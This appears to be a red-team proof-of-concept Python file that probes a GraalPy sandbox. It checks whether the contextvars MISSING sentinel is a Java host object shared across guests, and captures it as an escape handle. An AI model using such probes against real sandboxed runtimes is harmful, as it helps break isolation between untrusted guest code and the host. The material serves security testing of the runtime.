# technique: GraalPy marks the missing value of a context variable with an object of Java's, one for all guests
# source: red team of the merged tree
# goal: an object of the JVM
# impact: host-object
import contextvars

variable = contextvars.ContextVar('variable')
token = variable.set(1)
for found in (token.old_value, token.MISSING, contextvars.Token.MISSING):
    if 'java' in str(found) or 'Foreign' in type(found).__name__:
        ESCAPED = found
